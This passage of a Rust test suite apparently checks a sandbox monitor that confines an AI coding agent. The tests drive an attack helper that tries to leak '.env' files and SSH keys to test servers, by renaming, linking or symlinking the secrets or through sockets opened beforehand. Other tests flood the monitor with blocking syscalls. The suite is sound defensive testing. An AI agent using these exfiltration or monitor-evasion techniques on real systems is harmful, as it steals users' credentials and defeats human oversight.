/// lengths, too many descriptors, huge iovec counts and lengths, huge control and
/// name lengths, a `sendmmsg` with a bad entry in the middle, unmapped pointers.
/// Every answer is the kernel's own (the same program run outside the sandbox is
/// the oracle), the run ends promptly, and ordinary calls still work afterwards.
#[test]
fn hostile_message_headers_get_the_kernels_answer_and_never_stall_the_monitor() {
    let ip = "127.77.0.18";
    let _server = Udp::new(ip, 53);
    let f = Fixture::new("hostilemsg").with_attack();
    let ok = f.path("ok.txt");
    let native = std::process::Command::new(f.ws.join("attack"))
        .args(["hostile-msg", ip, "53", "1", &ok])
        .output()
        .unwrap();
    let expected: Vec<String> = stdout(&native)
        .lines()
        .filter(|l| l.starts_with("hostile "))
        .map(|l| l.replace(" same=1", ""))
        .collect();
    assert!(expected.len() >= 25, "the oracle run: {}", show(&native));
    let started = std::time::Instant::now();
    let o = attack(&f, &["hostile-msg", ip, "53", "600", &ok]);
    let took = started.elapsed();
    assert_eq!(code(&o), 0, "{}", show(&o));
    let out = stdout(&o);
    let got: Vec<&str> = out.lines().filter(|l| l.starts_with("hostile ")).collect();
    assert_eq!(got.len(), expected.len(), "every variant ran\n{}", show(&o));
    for (g, e) in got.iter().zip(&expected) {
        assert_eq!(
            g.to_string(),
            format!("{e} same=600"),
            "the kernel answers `{e}`\n{}",
            show(&o)
        );
    }
    for after in [
        "after: open: ok=0",
        "after: unix send: ok=1",
        "after: udp sendto: ok=5",
    ] {
        assert!(out.contains(after), "missing `{after}`\n{}", show(&o));
    }
    assert!(
        took < Duration::from_secs(60),
        "{} hostile calls took {took:?}",
        600 * got.len()
    );
}

/// Opens that wait for as long as the agent wants (700 threads open a FIFO that
/// has no writer: more than the monitor ever had workers) must not hold the
/// monitor: ordinary opens from another thread meanwhile complete promptly, and
/// the FIFO opens complete once a writer comes. Both spellings: a path with a
/// relative part (the general path) and an absolute one (decided as written).
#[test]
fn blocked_fifo_opens_by_the_hundred_do_not_exhaust_the_monitor() {
    let f = Fixture::new("fifoflood").with_attack();
    let c = std::ffi::CString::new(f.path("flood")).unwrap();
    // SAFETY: `c` is a NUL-terminated path alive for the call.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
    for fifo in ["./flood".to_string(), f.path("flood")] {
        let started = std::time::Instant::now();
        let o = attack(&f, &["fifo-flood", &fifo, "700", &f.path("ok.txt")]);
        let took = started.elapsed();
        let out = stdout(&o);
        assert_eq!(code(&o), 0, "{}", show(&o));
        assert!(out.contains("fifo-flood: started=700"), "{}", show(&o));
        let line = out
            .lines()
            .find(|l| l.starts_with("fifo-flood: ordinary opens="))
            .unwrap_or_else(|| panic!("{}", show(&o)));
        assert!(
            line.starts_with("fifo-flood: ordinary opens=200 in ")
                && line.ends_with("while 700 fifo opens wait"),
            "{line}\n{}",
            show(&o)
        );
        let ms: u64 = number_after(line, " in ").unwrap();
        assert!(ms < 10_000, "200 ordinary opens took {ms} ms ({fifo})");
        assert!(
            out.contains("fifo-flood: fifo opens=700 eagain=0"),
            "{}",
            show(&o)
        );
        assert!(took < Duration::from_secs(60), "{took:?}");
    }
}

/// Blocking connects to a server whose backlog is full (600 threads; each waits
/// for the kernel's SYN retries) must not hold the monitor either.
#[test]
fn blocked_connects_by_the_hundred_do_not_exhaust_the_monitor() {
    use std::os::fd::AsRawFd;
    let ip = "127.77.0.19";
    let server = Tcp::new(ip, 443);
    // The smallest backlog: one connection queues, the rest wait in connect.
    // SAFETY: listen on a socket the server owns, integer arguments only.
    assert_eq!(unsafe { libc::listen(server.0.as_raw_fd(), 0) }, 0);
    let f = Fixture::new("connectflood").with_attack();
    let o = attack(&f, &["connect-flood", ip, "443", "600", &f.path("ok.txt")]);
    let out = stdout(&o);
    assert!(out.contains("connect-flood: started=600"), "{}", show(&o));
    let line = out
        .lines()
        .find(|l| l.starts_with("connect-flood: ordinary opens="))
        .unwrap_or_else(|| panic!("{}", show(&o)));
    assert!(
        line.starts_with("connect-flood: ordinary opens=200 in "),
        "{line}"
    );
    let waiting: u32 = number_after(line, "while ").unwrap();
    assert!(waiting > 512, "the connects must really wait: {line}");
    let ms: u64 = number_after(line, " in ").unwrap();
    assert!(ms < 10_000, "200 ordinary opens took {ms} ms");
}

/// Blocking sends on a socket whose buffer is full (600 threads) must not hold
/// the monitor; once the peer reads, every one of them completes.
#[test]
fn blocked_sends_by_the_hundred_do_not_exhaust_the_monitor() {
    let f = Fixture::new("sendflood").with_attack();
    let o = attack(&f, &["send-flood", "600", &f.path("ok.txt")]);
    let out = stdout(&o);
    assert_eq!(code(&o), 0, "{}", show(&o));
    assert!(out.contains("send-flood: filled=yes"), "{}", show(&o));
    assert!(out.contains("send-flood: started=600"), "{}", show(&o));
    let line = out
        .lines()
        .find(|l| l.starts_with("send-flood: ordinary opens="))
        .unwrap_or_else(|| panic!("{}", show(&o)));
    assert!(
        line.starts_with("send-flood: ordinary opens=200 in ") && line.ends_with("while 600 sends wait"),
        "{line}"
    );
    let ms: u64 = number_after(line, " in ").unwrap();
    assert!(ms < 10_000, "200 ordinary opens took {ms} ms");
    assert!(out.contains("send-flood: sends=600 received=all"), "{}", show(&o));
}

/// The threads of blocked opens whose callers are killed while they wait must
/// not pile up in the monitor: each is interrupted once its notification is
/// gone. Counted live in `clawless`'s own task list.
#[test]
fn blocked_opens_whose_callers_die_do_not_pile_up_in_the_monitor() {
    use std::io::{BufRead, BufReader};
    let f = Fixture::new("abandon").with_attack();
    let c = std::ffi::CString::new(f.path("flood")).unwrap();
    // SAFETY: `c` is a NUL-terminated path alive for the call.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
    // The monitor's own blocked opens: where the kernel performs opens (isolated
    // files), --log-denials keeps them with the monitor (every open is seen).
    let extra: &[&str] = if kernel_opens() { &["--log-denials"] } else { &[] };
    let mut child = spawn_piped(f.command(extra, &["./attack", "abandon", "./flood", "100"]));
    let pid = child.id();
    let named = |name: &str| {
        std::fs::read_dir(format!("/proc/{pid}/task"))
            .map(|d| {
                d.filter_map(Result::ok)
                    .filter(|t| {
                        std::fs::read_to_string(t.path().join("comm")).is_ok_and(|c| c.trim() == name)
                    })
                    .count()
            })
            .unwrap_or(0)
    };
    let blocked = || named("claw-blocked");
    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
    let mut seen = Vec::new();
    let mut while_waiting = 0;
    let mut after_kill = usize::MAX;
    let mut spare = usize::MAX;
    for line in lines.by_ref() {
        let line = line.unwrap();
        if line == "abandon: waiting" {
            while_waiting = blocked();
        }
        if line.starts_with("abandon: killed=") {
            std::thread::sleep(Duration::from_millis(1000));
            after_kill = blocked();
            spare = named("claw-spare");
        }
        seen.push(line);
        if seen.last().is_some_and(|l| l == "abandon: done") {
            break;
        }
    }
    let o = wait_with_deadline(child, Duration::from_secs(60));
    assert_eq!(code(&o), 0, "{seen:?}\n{}", show(&o));
    assert!(seen.contains(&"abandon: killed=100".to_string()), "{seen:?}");
    assert!(
        while_waiting >= 100,
        "the opens were waiting in the monitor: {while_waiting}"
    );
    assert_eq!(after_kill, 0, "threads left for dead callers");
    // Threads kept for the next blocking call (a connect loop) are few.
    assert!(spare <= 8, "{spare} spare threads kept");
}

/// The same flood when the agent and `clawless` share a thread limit the agent
/// uses up (`clawless` run as an unprivileged user under `RLIMIT_NPROC`, which
/// root would not be held to): the monitor can start no thread for the blocked
/// opens beyond some point, and those get `EAGAIN`; ordinary opens are still
/// served promptly by the workers started with the pool, and every blocked open
/// is answered.
#[test]
fn blocked_opens_under_a_shared_thread_limit_leave_ordinary_calls_served() {
    use std::os::unix::fs::PermissionsExt;
    let f = Fixture::new("nproc").with_attack();
    let c = std::ffi::CString::new(f.path("flood")).unwrap();
    // SAFETY: `c` is a NUL-terminated path alive for the call.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o666) }, 0);
    std::fs::set_permissions(f.ws.join("flood"), std::fs::Permissions::from_mode(0o666)).unwrap();
    let mut cmd = std::process::Command::new("prlimit");
    cmd.args([
        "--nproc=300:300",
        "setpriv",
        "--reuid=65534",
        "--regid=65534",
        "--clear-groups",
    ])
    .arg(clawless())
    .args(["exec", "--workspace"])
    .arg(&f.ws)
    .args(["--", "./attack", "fifo-flood", "./flood", "700"])
    .arg(f.path("ok.txt"))
    .current_dir(&f.ws)
    .env("HOME", &f.home)
    .env("PATH", "/usr/local/bin:/usr/bin:/bin")
    .stdin(std::process::Stdio::null());
    let o = run_with_deadline(cmd, Duration::from_secs(60));
    let out = stdout(&o);
    assert_eq!(code(&o), 0, "{}", show(&o));
    let started: u32 = out
        .lines()
        .find_map(|l| l.strip_prefix("fifo-flood: started="))
        .and_then(|v| v.parse().ok())
        .unwrap_or_else(|| panic!("{}", show(&o)));
    assert!(
        (100..700).contains(&started),
        "the limit held the agent's threads: {started}\n{}",
        show(&o)
    );
    let line = out
        .lines()
        .find(|l| l.starts_with("fifo-flood: ordinary opens="))
        .unwrap_or_else(|| panic!("{}", show(&o)));
    assert!(line.starts_with("fifo-flood: ordinary opens=200 in "), "{line}");
    let (opened, eagain): (u32, u32) = out
        .lines()
        .find_map(|l| l.strip_prefix("fifo-flood: fifo opens="))
        .and_then(|r| r.split_once(" eagain="))
        .and_then(|(a, b)| Some((a.parse().ok()?, b.parse().ok()?)))
        .unwrap_or_else(|| panic!("{}", show(&o)));
    assert_eq!(
        opened + eagain,
        started,
        "every blocked open was answered\n{}",
        show(&o)
    );
    assert!(
        eagain > 0,
        "the monitor ran out of threads, as it should here\n{}",
        show(&o)
    );
}

/// What one `rename-leak` run showed: whether the name change was performed.
/// Either way the channel worked before it, and nothing but that first message
/// reached the server: a performed name change tainted the sandbox before the
/// secret had its new name (the read of it is not what tainted: the monitor
/// decides the name change as a read of the secret), a refused one left the
/// secret where it was.
/// `call` is `[how, source, destination, the name to read after]`.
fn name_change_leak(
    ip: &str,
    f: &Fixture,
    policy: Option<&str>,
    home: Option<&std::path::Path>,
    call: [&str; 4],
) -> (bool, String) {
    let [how, src, dst, read] = call;
    let server = Tcp::new(ip, 443);
    let args = ["./attack", "rename-leak", ip, "443", how, src, dst, read];
    let extra: Vec<&str> = policy.map_or(vec![], |p| vec!["--policy", p]);
    let mut c = f.command(&extra, &args);
    if let Some(h) = home {
        c.env("HOME", h);
    }
    let o = run_with_deadline(c, Duration::from_secs(120));
    let out = stdout(&o);
    assert_eq!(code(&o), 0, "{how}: {}", show(&o));
    assert!(
        out.contains("send before: ok=7"),
        "{how}: the channel must work first\n{}",
        show(&o)
    );
    let performed = out.contains(&format!("{how}: ok=0"));
    assert!(
        performed || out.contains(&format!("{how}: errno=")),
        "{how}: the name change never ran\n{}",
        show(&o)
    );
    if performed {
        assert!(
            out.contains("new name holds the secret: 1"),
            "{how}: the secret must really have the new name\n{}",
            show(&o)
        );
        assert!(
            out.contains("send after name change: errno=32"),
            "{how}: the name change itself must taint, before it returns\n{}",
            show(&o)
        );
        assert!(
            out.contains("send after (old socket): errno=32"),
            "{how}: the open socket was not shut down\n{}",
            show(&o)
        );
        assert!(
            out.contains("socket: errno=1") || out.contains("connect after: errno="),
            "{how}: the network is still open\n{}",
            show(&o)
        );
    } else {
        assert!(out.contains("new name holds the secret: 0"), "{}", show(&o));
    }
    let got = server.received();
    if performed {
        assert_eq!(
            got,
            "before\n",
            "{how}: something reached the server\n{}",
            show(&o)
        );
    } else {
        // Nothing was read, so the sandbox stays clean and may still talk.
        assert!(
            got.starts_with("before\n") && !got.contains("SECRET"),
            "{how}: {got:?}\n{}",
            show(&o)
        );
    }
    (performed, out)
}

/// A `.env` in the workspace given another name by `how`, then read under it.
fn dotenv_renamed(ip: &str, how: &str, src: &str, dst: &str, read: &str) {
    let f = with_dotenv(&format!("name-{how}"));
    std::os::unix::fs::symlink(".env", f.ws.join("alias")).unwrap();
    assert!(
        name_change_leak(ip, &f, None, None, [how, src, dst, read]).0,
        "{how}: the policy lets the agent read and write its workspace, so the name change is performed (and taints)"
    );
}

#[test]
fn renaming_a_secret_taints_before_it_has_the_new_name() {
    dotenv_renamed("127.77.12.1", "rename", ".env", "notes.txt", "notes.txt");
}

#[test]
fn renameat_a_secret_taints() {
    dotenv_renamed("127.77.12.2", "renameat", ".env", "notes.txt", "notes.txt");
}

#[test]
fn renameat2_a_secret_taints_with_every_flag() {
    dotenv_renamed("127.77.12.3", "renameat2", ".env", "notes.txt", "notes.txt");
    dotenv_renamed(
        "127.77.12.4",
        "renameat2-noreplace",
        ".env",
        "notes.txt",
        "notes.txt",
    );
    dotenv_renamed(
        "127.77.12.5",
        "renameat2-whiteout",
        ".env",
        "notes.txt",
        "notes.txt",
    );
}

#[test]
fn exchanging_a_secret_with_a_file_taints_in_both_directions() {
    // The secret is the source, then the destination: either way it ends up as
    // ok.txt.
    dotenv_renamed("127.77.12.6", "renameat2-exchange", ".env", "ok.txt", "ok.txt");
    dotenv_renamed("127.77.12.7", "renameat2-exchange", "ok.txt", ".env", "ok.txt");
}

#[test]
fn linking_a_secret_taints() {
    dotenv_renamed("127.77.12.8", "link", ".env", "notes.txt", "notes.txt");
    dotenv_renamed("127.77.12.9", "linkat", ".env", "notes.txt", "notes.txt");
}

#[test]
fn linking_a_secret_through_a_symlink_or_a_descriptor_taints() {
    // AT_SYMLINK_FOLLOW through a workspace symlink to the secret; a `visible`
    // O_PATH handle linked through /proc/self/fd/N, and with AT_EMPTY_PATH.
    dotenv_renamed("127.77.12.10", "linkat-follow", "alias", "notes.txt", "notes.txt");
    dotenv_renamed("127.77.12.11", "linkat-procfd", ".env", "notes.txt", "notes.txt");
    dotenv_renamed("127.77.12.12", "linkat-empty", ".env", "notes.txt", "notes.txt");
}

#[test]
fn moving_a_directory_that_holds_a_secret_taints() {
    let f = with_dotenv("name-dir");
    std::fs::create_dir_all(f.ws.join("proj/src")).unwrap();
    std::fs::rename(f.ws.join(".env"), f.ws.join("proj/src/.env")).unwrap();
    assert!(
        name_change_leak(
            "127.77.12.13",
            &f,
            None,
            None,
            ["rename", "proj", "moved", "moved/src/.env"]
        )
        .0
    );
}

#[test]
fn moving_a_directory_a_secret_pattern_covers_taints() {
    // HOME inside the workspace, so the agent may write ~/.ssh: moving it out of
    // `~/.ssh/**` is reading every key in it.
    let f = Fixture::new("name-ssh").with_attack();
    let home = f.ws.join("h");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(home.join(".ssh/id_test"), SECRET).unwrap();
    assert!(
        name_change_leak(
            "127.77.12.14",
            &f,
            None,
            Some(&home),
            ["rename", "h/.ssh", "x", "x/id_test"]
        )
        .0
    );
}

#[test]
fn a_secret_outside_the_workspace_cannot_be_given_a_workspace_name() {
    // ~/.ssh is outside what the agent may write: every way of naming it fails.
    for (i, how) in ["link", "linkat-procfd", "rename"].iter().enumerate() {
        let f = Fixture::new(&format!("name-home-{how}")).with_attack();
        let secret = f.secret.display().to_string();
        let ip = format!("127.77.12.{}", 20 + i);
        assert!(
            !name_change_leak(&ip, &f, None, None, [how, &secret, "notes.txt", "notes.txt"]).0,
            "{how} of a home secret must be refused"
        );
    }
    // Nor ~/.ssh as a whole.
    let f = Fixture::new("name-home-dir").with_attack();
    let ssh = f.home.join(".ssh").display().to_string();
    assert!(!name_change_leak("127.77.12.24", &f, None, None, ["rename", &ssh, "x", "x/id_test"]).0);
}

#[test]
fn deny_read_cannot_be_bypassed_by_renaming_or_linking() {
    // A policy that lets the agent write its workspace but never read a `.env`:
    // naming one is reading it, so every name change of it is refused, with the
    // read rule's EACCES. Compiled (and proved) once.
    clawc_is_built();
    let policy = Fixture::new("name-deny-policy");
    let src = policy.root.join("mine.claw");
    let bin = policy.root.join("mine.bin");
    std::fs::write(
        &src,
        "use std::profiles::coding_agent;\nuse std::paths::*;\n\
         policy mine extends coding_agent { always { deny(EACCES) read dotenv; } }\n",
    )
    .unwrap();
    let clawc = std::path::Path::new(clawless()).with_file_name("clawc");
    let st = std::process::Command::new(clawc)
        .arg("compile")
        .arg(&src)
        .arg("-o")
        .arg(&bin)
        .stderr(std::process::Stdio::null())
        .status()
        .unwrap();
    assert!(st.success());
    for (i, how) in ["rename", "renameat2-exchange", "link", "linkat-procfd"]
        .iter()
        .enumerate()
    {
        let f = with_dotenv(&format!("name-deny-{how}"));
        let ip = format!("127.77.12.{}", 30 + i);
        let exchange = *how == "renameat2-exchange";
        let (from, to) = if exchange {
            ("ok.txt", ".env")
        } else {
            (".env", "notes.txt")
        };
        let read = if exchange { "ok.txt" } else { "notes.txt" };
        let (performed, out) =
            name_change_leak(&ip, &f, Some(bin.to_str().unwrap()), None, [how, from, to, read]);
        assert!(
            !performed,
            "{how} of a file the policy forbids reading must be refused\n{out}"
        );
        assert!(
            out.contains(&format!("{how}: errno=13")),
            "refused by the read rule\n{out}"
        );
    }
}

#[test]
fn a_directory_too_large_to_list_is_not_moved_unread() {
    // Past the monitor's bound the rename is refused (EXDEV, so `mv` would copy,
    // each read decided): the .env inside never gets a new name unread.
    let f = with_dotenv("name-big");
    let big = f.ws.join("big");
    std::fs::create_dir_all(&big).unwrap();
    for i in 0..16_400 {
        std::fs::write(big.join(i.to_string()), "").unwrap();
    }
    std::fs::rename(f.ws.join(".env"), big.join(".env")).unwrap();
    let o = attack(
        &f,
        &[
            "rename-leak",
            "127.77.12.41",
            "1",
            "rename",
            "big",
            "moved",
            "moved/.env",
        ],
    );
    assert!(stdout(&o).contains("rename: errno=18"), "{}", show(&o));
    assert!(big.join(".env").exists() && !f.ws.join("moved").exists());
}

/// A hard link made before the session (outside the sandbox's reach) is the same
/// object as the secret: the monitor knows it by identity, so reading it under the
/// other name is decided as reading the secret — refused where the secret may not
/// be read, tainting where it may.
#[test]
fn a_secret_hard_linked_before_the_session_is_still_the_secret() {
    // ~/.ssh outside the workspace: the profile may not read it, nor its alias.
    let f = Fixture::new("name-prelink").with_attack();
    std::fs::hard_link(&f.secret, f.ws.join("notes.txt")).unwrap();
    // Relative (resolved in full) and absolute (decided as written) opens.
    let o = f.sh(&format!(
        "cat ok.txt; cat notes.txt; echo rc=$?; cat {}; echo rc=$?",
        f.path("notes.txt")
    ));
    assert!(stdout(&o).contains("ordinary workspace file"), "{}", show(&o));
    assert!(
        stdout(&o).matches("rc=1").count() == 2 && !stdout(&o).contains("TOP-SECRET"),
        "the alias was read\n{}",
        show(&o)
    );
    // HOME inside the workspace: reading ~/.ssh is allowed and taints; so does
    // reading its alias.
    let ip = "127.77.12.42";
    let server = Tcp::new(ip, 443);
    let home = f.ws.join("h");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(home.join(".ssh/id_test"), SECRET).unwrap();
    std::fs::remove_file(f.ws.join("notes.txt")).unwrap();
    std::fs::hard_link(home.join(".ssh/id_test"), f.ws.join("notes.txt")).unwrap();
    let mut c = f.command(&[], &["./attack", "hold", "tcp", ip, "443", "notes.txt"]);
    c.env("HOME", &home);
    let o = run_with_deadline(c, Duration::from_secs(120));
    assert_hold_tainted(&o, &server, "reading the alias");
}

/// The verdict of `./attack hold tcp IP 443 NAME`, a socket connected and
/// written before NAME is opened and written again after: the channel worked
/// (`write before: ok=7`), the open succeeded, the write after it was refused
/// (`EPIPE`: `why`, what opened it, tainted), and the server got only the first
/// write.
fn assert_hold_tainted(o: &std::process::Output, server: &Tcp, why: &str) {
    let out = stdout(o);
    assert!(
        out.contains("write before: ok=7"),
        "{why}: the channel works\n{}",
        show(o)
    );
    assert!(
        out.contains("open secret: ok="),
        "{why}: the attack did not open it\n{}",
        show(o)
    );
    assert!(
        out.contains("write after: errno=32"),
        "{why} did not taint\n{}",
        show(o)
    );
    assert_eq!(server.received(), "before\n", "{why}: more reached the server");
}

/// Runs `./attack hold tcp IP 443 TARGET` with `HOME` set, once `ready` (if any)
/// has run after the agent signalled it started (the file `started`), and checks
/// that the channel worked before the read and that the read tainted.
fn hold_taints(
    f: &Fixture,
    home: &std::path::Path,
    ip: &str,
    target: &str,
    ready: impl FnOnce() + Send + 'static,
) {
    hold_taints_with(f, home, ip, target, &[], ready);
}

/// [`hold_taints`] with more environment for `clawless`; returns the run.
fn hold_taints_with(
    f: &Fixture,
    home: &std::path::Path,
    ip: &str,
    target: &str,
    env: &[(&str, &str)],
    ready: impl FnOnce() + Send + 'static,
) -> std::process::Output {
    let server = Tcp::new(ip, 443);
    let script = format!(
        "touch started; i=0; while [ ! -e go ] && [ $i -lt 1200 ]; do sleep 0.05; i=$((i+1)); done; \
         echo agent-sees-go=$([ -e go ] && echo yes); ./attack hold tcp {ip} 443 {target}"
    );
    let mut c = f.command(&[], &["/bin/sh", "-c", &script]);
    c.env("HOME", home);
    for (k, v) in env {
        c.env(k, v);
    }
    let (started, go) = (f.ws.join("started"), f.ws.join("go"));
    let helper = std::thread::spawn(move || {
        for _ in 0..1200 {
            if started.exists() {
                break;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        assert!(started.exists(), "the agent never started");
        ready();
        std::fs::write(go, "").unwrap();
    });
    let o = run_with_deadline(c, Duration::from_secs(120));
    helper.join().unwrap();
    let out = stdout(&o);
    assert!(
        out.contains("agent-sees-go=yes"),
        "the attack did not run\n{}",
        show(&o)
    );
    assert_hold_tainted(&o, &server, &format!("reading {target}"));
    o
}

/// A hard link to a secret made by a process *outside* the sandbox during the
/// session (the user's tool runs `ln ~/.ssh/id_test notes.txt` after the agent
/// started): every secret file is known by identity from the start, so the new
/// name meets it.
#[test]
fn a_secret_hard_linked_by_an_outside_process_during_the_session_is_still_the_secret() {
    let f = Fixture::new("name-outlink").with_attack();
    let home = f.ws.join("h");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(home.join(".ssh/id_test"), SECRET).unwrap();
    let (key, link) = (home.join(".ssh/id_test"), f.ws.join("notes.txt"));
    hold_taints(&f, &home, "127.77.12.43", "notes.txt", move || {
        std::fs::hard_link(key, link).unwrap();
    });
}

/// A file whose canonical path names no secret but which a symlink with a
/// secret's name reaches is the secret (docs/language.md, "Secret names"): the
/// layouts of dotfile managers and of per-deployment env files. Each case is
/// built before the session (`layout`, in a workspace with `HOME` at `h`) and
/// the agent reads `target`: by the link or by the ordinary name, both taint.
fn symlinked_secret_taints(case: &str, n: u8, target: &str, layout: impl Fn(&std::path::Path)) {
    let f = Fixture::new(&format!("symname-{case}")).with_attack();
    let home = f.ws.join("h");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    layout(&f.ws);
    eprintln!("symlinked secret `{case}`: reading {target}");
    hold_taints(&f, &home, &format!("127.77.13.{n}"), target, || {});
}

fn write_secret(p: &std::path::Path) {
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, SECRET).unwrap();
}

fn symlink(target: &str, link: &std::path::Path) {
    std::os::unix::fs::symlink(target, link).unwrap();
}

/// `ws/.env -> config/dev-settings` (a relative link; `/**/.env` has no literal
/// directory, so the workspace is where the link is found): the red team's
/// round-4 reproducer `symlinked-secret-name`.
#[test]
fn a_file_behind_a_secret_named_symlink_in_the_workspace_is_the_secret() {
    for (n, target) in [(1, "config/dev-settings"), (2, ".env")] {
        symlinked_secret_taints("ws", n, target, |ws| {
            write_secret(&ws.join("config/dev-settings"));
            symlink("config/dev-settings", &ws.join(".env"));
        });
    }
}

/// `~/.ssh/id_test -> ../dotfiles/key`, the file in a readable tree.
#[test]
fn a_file_behind_a_secret_named_symlink_in_a_secret_directory_is_the_secret() {
    for (n, target) in [(3, "h/dotfiles/key"), (4, "h/.ssh/id_test")] {
        symlinked_secret_taints("ssh", n, target, |ws| {
            write_secret(&ws.join("h/dotfiles/key"));
            symlink("../dotfiles/key", &ws.join("h/.ssh/id_test"));
        });
    }
}

/// A chain: `.env.local -> hop -> <absolute>/h/stash/env`, through an ordinary
/// name to a file outside the workspace's own tree.
#[test]
fn a_file_at_the_end_of_a_secret_named_symlink_chain_is_the_secret() {
    symlinked_secret_taints("chain", 5, "h/stash/env", |ws| {
        write_secret(&ws.join("h/stash/env"));
        symlink(&ws.join("h/stash/env").display().to_string(), &ws.join("hop"));
        symlink("hop", &ws.join(".env.local"));
    });
}

/// `~/.aws -> dotfiles/aws`: every file below the target is under a secret name
/// (`~/.aws/credentials`).
#[test]
fn a_file_below_a_directory_behind_a_secret_named_symlink_is_the_secret() {
    symlinked_secret_taints("dir", 6, "h/dotfiles/aws/credentials", |ws| {
        write_secret(&ws.join("h/dotfiles/aws/credentials"));
        symlink("dotfiles/aws", &ws.join("h/.aws"));
    });
}

/// The agent makes `.env -> config/x` itself: the link gives `config/x` a
/// secret's name (the user's editor writing `.env` writes into `config/x`), and
/// naming is reading (`Mediation::Symlink`), so the link itself taints: a channel
/// that worked before it is refused after it, and `config/x` stays readable.
#[test]
fn a_file_the_agent_gives_a_secret_named_symlink_is_the_secret() {
    let f = Fixture::new("symname-agent").with_attack();
    let home = f.ws.join("h");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    write_secret(&f.ws.join("config/x"));
    let ip = "127.77.13.7";
    let server = Tcp::new(ip, 443);
    let script = format!(
        "./attack tcp {ip} 443 before; ln -s config/x .env && echo linked; ./attack tcp {ip} 443 after; \
         cat config/x >/dev/null && echo read"
    );
    let mut c = f.command(&[], &["/bin/sh", "-c", &script]);
    c.env("HOME", &home);
    let o = run_with_deadline(c, Duration::from_secs(120));
    let out = stdout(&o);
    assert!(
        out.contains("tcp send: ok=6"),
        "the channel did not work\n{}",
        show(&o)
    );
    assert!(
        out.contains("linked") && out.contains("read"),
        "the agent could not make the link or read config/x\n{}",
        show(&o)
    );
    assert!(
        !out.contains("tcp send: ok=5"),
        "making the link did not taint\n{}",
        show(&o)
    );
    assert_eq!(server.received(), "before");
}

// ---- the network belongs to the monitor (isolated network, complete revocation) ----
//
// Each attack makes its sockets before the secret is read and proves its channel
// (a "before" that reached the test's server), then tries to send after it. The
// servers are on loopback addresses of the host that the default policy names
// (`https`, `dns`: `*:443`, `*:53`, whose `*` covers loopback), so in isolated mode
// only a socket the monitor made reaches them.

fn netleak(f: &Fixture, variant: &str, ip: &str, port: u16) -> std::process::Output {
    let o = attack(f, &["netleak", variant, ip, &port.to_string(), ".env"]);
    assert!(
        stdout(&o).contains(&format!("netleak {variant}: started")),
        "the attack did not run\n{}",
        show(&o)
    );
    assert!(stdout(&o).contains("open secret: ok="), "{}", show(&o));
    o
}

#[test]
fn fast_open_before_the_taint_cannot_write_after_it() {
    let ip = "127.77.0.30";
    let server = Tcp::new(ip, 443);
    let f = with_dotenv("fastopen");
    let o = netleak(&f, "fastopen", ip, 443);
    let got = server.received();
    // Either Fast Open is refused outright (no channel at all), or it connected
    // and delivered "before" — and then nothing after the taint.
    let refused = stdout(&o).contains("fastopen before: errno=");
    assert!(
        refused || got == "before\n",
        "the channel did not work: {got:?}\n{}",
        show(&o)
    );
    assert!(!got.contains("STOLEN"), "leaked: {got:?}\n{}", show(&o));
}

#[test]
fn tcp_fastopen_connect_before_the_taint_cannot_write_after_it() {
    let ip = "127.77.0.31";
    let server = Tcp::new(ip, 443);
    let f = with_dotenv("tfoconnect");
    let o = netleak(&f, "tfo-connect", ip, 443);
    let got = server.received();
    let refused = stdout(&o).contains("tfo option: errno=");
    assert!(refused || got == "before\n", "channel: {got:?}\n{}", show(&o));
    assert!(!got.contains("STOLEN"), "leaked: {got:?}\n{}", show(&o));
}

fn assert_udp_kept(server: &Udp, o: &std::process::Output) {
    let got = server.received();
    assert_eq!(
        got.first().map(String::as_str),
        Some("before\n"),
        "channel\n{}",
        show(o)
    );
    assert!(
        got.iter().all(|d| !d.contains("STOLEN")),
        "leaked: {got:?}\n{}",
        show(o)
    );
}

#[test]
fn a_udp_frame_corked_with_msg_more_before_the_taint_leaks_nothing() {
    let ip = "127.77.0.32";
    let server = Udp::new(ip, 53);
    let f = with_dotenv("udpmore");
    let o = netleak(&f, "udp-more", ip, 53);
    assert!(stdout(&o).contains("write before: ok=7"), "{}", show(&o));
    assert_udp_kept(&server, &o);
}

#[test]
fn a_udp_socket_corked_with_udp_cork_before_the_taint_leaks_nothing() {
    let ip = "127.77.0.33";
    let server = Udp::new(ip, 53);
    let f = with_dotenv("udpcork");
    let o = netleak(&f, "udp-cork", ip, 53);
    assert!(stdout(&o).contains("write before: ok=7"), "{}", show(&o));
    assert_udp_kept(&server, &o);
}

#[test]
fn an_unconnected_udp_socket_used_before_the_taint_sends_nothing_after_it() {
    let ip = "127.77.0.34";
    let server = Udp::new(ip, 53);
    let f = with_dotenv("udpunconn");
    let o = netleak(&f, "udp-unconnected", ip, 53);
    assert!(stdout(&o).contains("sendto before: ok=7"), "{}", show(&o));
    assert!(stdout(&o).contains("sendto after: errno="), "{}", show(&o));
    assert_udp_kept(&server, &o);
}

/// Writes the policy `source` to `<name>.claw` in the fixture's root (outside
/// the workspace) and returns its path, for `--policy`. `clawless` compiles a
/// policy from source with the `clawc` next to it, which must be built.
fn write_policy(f: &Fixture, name: &str, source: &str) -> String {
    clawc_is_built();
    let file = f.root.join(format!("{name}.claw"));
    std::fs::write(&file, source).unwrap();
    file.display().to_string()
}

/// A socket connected to an allowed endpoint keeps what the agent made it with:
/// a blocking socket stays blocking and its connect waits for the answer (0;
/// `ECONNREFUSED` where nothing listens), a non-blocking close-on-exec one stays
/// so and answers `EINPROGRESS` (in isolated mode both are sockets the monitor
/// made, connected before they were installed in place of the agent's).
#[test]
fn a_connected_socket_keeps_its_blocking_mode_and_close_on_exec() {
    let ip = "127.77.0.52";
    let server = Tcp::new(ip, 443);
    let f = Fixture::new("sockmode").with_attack();
    // The default profile allows https (443); nothing listens on 444, which it
    // does not allow: use a policy that allows both.
    let policy = UNCORK_POLICY.replace("policy uncork", "policy sockmode").replace(
        "allow connect, send dns;",
